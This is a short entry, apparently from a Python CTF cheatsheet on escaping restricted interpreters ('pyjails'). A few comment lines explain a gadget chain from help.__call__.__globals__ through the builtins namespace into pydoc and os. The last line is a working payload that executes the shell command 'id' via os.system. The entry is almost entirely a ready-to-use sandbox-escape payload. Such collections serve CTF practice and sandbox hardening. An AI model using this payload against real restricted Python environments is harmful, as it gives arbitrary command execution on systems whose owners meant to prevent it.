# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (help.__call__.__globals__['sys'])
# Family: builtins-side-door
# What: help.__call__.__globals__ is _sitebuiltins' namespace; its __builtins__ imports pydoc, which holds os
help.__call__.__globals__["__builtins__"]["__import__"]("pydoc").os.system("id")
